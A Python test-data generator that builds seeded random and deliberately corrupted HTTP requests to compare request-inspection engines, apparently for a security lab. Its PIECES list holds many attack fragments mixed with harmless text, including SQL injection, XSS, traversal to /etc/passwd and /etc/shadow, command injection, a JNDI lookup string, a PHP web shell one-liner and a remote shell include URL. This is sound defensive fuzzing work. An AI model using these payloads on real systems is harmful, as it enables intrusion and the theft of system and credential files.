"""Requests put together at random from pieces of attacks, of prose and of protocol, the same for the same seed: to compare engines.
Their heads are sound; what differs is what is in them, where, and how it is encoded."""
import json
import random
import re
import urllib.parse

from lab.place import HOST

PIECES = [
    "' or 1=1 -- ", "1 union select name, password from users", "1' and sleep(5)#", "admin'--", "; drop table x", "1; exec xp_cmdshell('dir')",
    "waitfor delay '0:0:5'", "load_file('/etc/passwd')", "information_schema.tables", "having 1=1", "order by 10", "0x3c7363", "@@version",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>", "<iframe src=//x.example>",
    "expression(alert(1))", "document.cookie", "<a href=\"data:text/html;base64,PA==\">", "{{constructor.constructor('a')()}}", "&#x6a;avascript:",
    "../../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", ".htaccess", "/proc/self/environ", "c:\\windows\\win.ini", "//etc//passwd",
    "http://192.0.2.7/shell.txt?", "file:///etc/passwd", "php://input", "data://text/plain;base64,PA==", "ftp://x.example/a.php",
    "; cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& ping -c 3 127.0.0.1", "() { :; }; /bin/ls", "cmd.exe /c dir", "powershell -enc AA==",
    "${jndi:ldap://x.example/a}", "<?php system($_GET['c']); ?>", "phpinfo()", "base64_decode(", "$_SERVER['x']", "O:8:\"stdClass\":0:{}",
    "java.lang.Runtime", "ProcessBuilder", "rO0ABQ", "require('child_process')", "_$$ND_FUNC$$_function(){}", "\r\nSet-Cookie: a=1", "\r\n\r\nGET / HTTP/1.1",
    "O'Neill", "at the same time", "select the best from the rest", "50 % of 1/2", "Crème brûlée – 7 €", "union of farmers", "\"quoted\" words", "a=b&c=d",
    "if (x > 1) { y--; }", "C# and C++", "mail@example.org", "2025-06-14T09:40:00+02:00", "🙂", "null", "\0", "\t\n", "%", "%00", "%c0%af", "\xad", "\x7f",
    "#comment", "/*comment*/", "--", "||", "&&", "``", "''", "\"\"", "((((", "~~~~", "!!!!", "::", ";;", "\\\\", "+", " ", "_", "$", "^", "<", ">",
]
NAMES = ["q", "id", "name", "text", "file", "user[name]", "a.b", "x-y", "password", "wp_lang", "page_id", "PHPSESSID", "<b>", "a'b", "_charset_"]
PATHS = ["/", "/index.php", "/a/b/c", "/.git/config", "/wp-login.php", "/a.bak", "/%2e%2e/x", "/a%20b", "/a;b=c", "//x//y", "/a/../b", "/x.asp", "/a%3fb"]
TYPES = ["text/plain", "application/octet-stream", "text/xml", "application/soap+xml", "application/x-www-form-urlencoded; charset=utf-7"]


class Drawer:
    def __init__(self, seed):
        self.draws = random.Random(seed)

    def text(self):
        text = "".join(self.draws.choice(PIECES) for _ in range(self.draws.choice([1, 1, 1, 2, 3, 5])))
        return self._twisted(text)

    def _twisted(self, text):
        way = self.draws.randrange(12)
        if way == 0:
            return text.upper()
        if way == 1:
            return urllib.parse.quote(text, safe="")
        if way == 2:
            return text.replace(" ", "/**/")
        if way == 3:
            return "".join("&#%d;" % ord(c) if self.draws.random() < 0.3 else c for c in text)
        if way == 4:
            return "".join("\\u%04x" % ord(c) if ord(c) < 65536 and self.draws.random() < 0.3 else c for c in text)
        return text

    def pairs(self, most=4):
        return [(self.draws.choice(NAMES), self.text()) for _ in range(self.draws.randint(1, most))]

    def encoded(self, pairs):
        """As a browser does, or by an attacker who writes as little as he must."""
        if self.draws.random() < 0.7:
            return urllib.parse.urlencode(pairs).encode()
        return "&".join(f"{urllib.parse.quote(name)}={urllib.parse.quote(text, safe=SAFE)}" for name, text in pairs).encode()

    def json_value(self, depth=0):
        way = self.draws.randrange(6 if depth < 4 else 3)
        if way < 3:
            return self.draws.choice([self.text(), self.draws.randint(-5, 10 ** 9), self.draws.random(), True, None, self.text()])
        if way < 5:
            return {name: self.json_value(depth + 1) for name, _ in self.pairs()}
        return [self.json_value(depth + 1) for _ in range(self.draws.randint(0, 3))]

    def multipart(self):
        parts = []
        for name, text in self.pairs():
            quoted = name.replace('"', "%22")
            file = self.draws.random() < 0.3
            name_of_file = f'; filename="{self.draws.choice(["a.jpg", "shell.php", "x.tar.gz", "plan (2).pdf", "a.php.txt"])}"' if file else ""
            kind = "\r\nContent-Type: " + self.draws.choice(["image/jpeg", "text/plain", "text/plain; charset=utf-7"]) if file else ""
            parts.append(f'--B0undary\r\nContent-Disposition: form-data; name="{quoted}"{name_of_file}{kind}\r\n\r\n{text}\r\n')
        return "multipart/form-data; boundary=B0undary", ("".join(parts) + "--B0undary--\r\n").encode("utf-8", "surrogateescape")

    def xml(self):
        clean = "".join(c for c in self.text() if c >= " ").replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        return "text/xml", f'<a b="{clean}"><c>{clean}</c></a>'.encode()

    def body(self):
        way = self.draws.randrange(8)
        if way < 3:
            return "application/x-www-form-urlencoded", self.encoded(self.pairs())
        if way < 5:
            return self.multipart()
        if way == 5:
            return "application/json", json.dumps(self.json_value(), ensure_ascii=self.draws.random() < 0.5).encode()
        if way == 6:
            return self.xml()
        return self.draws.choice(TYPES), self.encoded(self.pairs())

    def fields(self):
        fields = {"Host": HOST, "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Accept": "*/*"}
        one_line = "".join(c for c in self.text() if c >= " " and ord(c) < 127)
        way = self.draws.randrange(10)
        if way == 0:
            fields["User-Agent"] = self.draws.choice([one_line, "sqlmap/1.7", "curl/7.88", "Nikto"])
        elif way == 1:
            fields["Cookie"] = f"{self.draws.choice(['session', 'a', '__utma'])}={one_line}; b=2"
        elif way == 2:
            fields["Referer"] = "https://" + HOST + "/?q=" + one_line
        elif way == 3:
            fields[self.draws.choice(["X-Forwarded-For", "X-Api", "Accept-Language", "Range", "Accept"])] = one_line
        elif way == 4:
            del fields[self.draws.choice(sorted(fields))]
        return fields

    def request(self):
        method = self.draws.choice(["GET", "GET", "GET", "POST", "POST", "POST", "POST", "HEAD", "PUT", "OPTIONS", "TRACE"])
        target = self.draws.choice(PATHS)
        if self.draws.random() < 0.7:
            target += "?" + self.encoded(self.pairs()).decode()
        fields, body = self.fields(), b""
        if method in ("POST", "PUT"):
            kind, body = self.body()
            fields.update({"Content-Type": kind, "Content-Length": len(body)})
        lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in fields.items())]
        return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


# What readers of bodies trip over.
BENDS = [b'"', b"'", b"\\", b";", b"=", b"&", b"%", b"+", b"\r\n", b"\n", b"\r", b"\0", b"--", b"{", b"}", b"[", b"]", b",", b":", b"<", b">", b"<!--",
         b"<![CDATA[", b"]]>", b"&amp;", b"&#39;", b"\xc3", b"\xff", b"1e5", b"null", b"--B0undary", b"name=", b"filename=", b" ", b"\t", b"/", b"*",
         b"\\u0000", b"\\ud800", b"?"]
SAFE = "'\"<>()[]{}|\\^`*!$,;:@/?-_.~"


def random_requests(seed, count):
    drawer = Drawer(seed)
    return [drawer.request() for _ in range(count)]


def _bent(draws, body):
    """One to four changes: something put in, taken out, replaced, or said again elsewhere."""
    body = bytearray(body)
    for _ in range(draws.randint(1, 4)):
        at, way = draws.randrange(len(body) + 1), draws.randrange(4)
        if way == 0:
            body[at:at] = draws.choice(BENDS)
        elif way == 1:
            del body[at:at + draws.randint(1, 6)]
        elif way == 2:
            body[at:at + 1] = draws.choice(BENDS)
        else:
            again = draws.randrange(len(body) + 1)
            body[at:at] = body[again:again + draws.randint(1, 30)]
    return bytes(body)


def bent_requests(seed, count):
    """Those of random_requests that have a body, the body broken in places; its length is told truly."""
    draws, found = random.Random(seed), []
    for request in random_requests(seed, 4 * count):
        head, _, body = request.partition(b"\r\n\r\n")
        if body and len(found) < count:
            body = _bent(draws, body)
            found.append(re.sub(rb"Content-Length: \d+", b"Content-Length: %d" % len(body), head) + b"\r\n\r\n" + body)
    return found
